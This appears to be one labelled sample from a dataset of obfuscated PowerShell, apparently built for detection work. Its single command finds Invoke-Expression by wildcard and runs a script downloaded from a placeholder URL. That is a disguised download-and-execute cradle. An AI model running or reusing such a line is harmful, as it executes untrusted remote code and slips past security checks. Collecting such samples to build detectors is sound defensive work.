# description: Looks up Invoke-Expression by wildcard with gcm and runs downloaded code through it.
# family: remote-code
# obfuscated: yes
& (gcm Invoke-Ex*) (Invoke-RestMethod https://example.com/b.ps1)
